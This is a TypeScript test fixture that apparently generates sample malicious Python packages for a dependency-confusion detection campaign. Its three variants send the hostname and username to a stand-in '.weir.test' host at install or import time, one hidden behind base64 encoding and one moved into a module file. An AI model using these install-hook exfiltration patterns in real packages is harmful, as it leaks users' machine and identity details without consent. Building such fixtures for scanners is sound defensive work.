import { base64, type Campaign, installCommand, sdist, wheel } from './kit.ts';

export const campaign: Campaign = {
  id: 'pypi-confusion',
  row: 'sl4x0 and other dependency confusion PoCs 2025-26: the name of the machine to a server that only sees that code ran',
  variants: [
    {
      concealment: 'plain',
      files: sdist(
        installCommand(
          "host = socket.gethostname()\nsocket.gethostbyname(host + '.campaign-sample.interaction.weir.test')",
          'import socket',
        ),
      ),
    },
    {
      concealment: 'obfuscated',
      files: sdist(
        `import base64, getpass, socket, urllib.request
target = base64.b64decode('${base64('http://x.interaction.weir.test/')}').decode()
urllib.request.urlopen(target + getpass.getuser() + '.' + socket.gethostname())
from setuptools import setup
setup(name='campaign-sample', version='99.9.9')
`,
      ),
    },
    {
      concealment: 'moved',
      files: wheel('from . import hello\n', {
        'campaign_sample/hello.py': `import platform, requests
requests.post('https://x.interaction.weir.test/poc', json={'host': platform.node(), 'from': __name__})
`,
      }),
    },
  ],
};
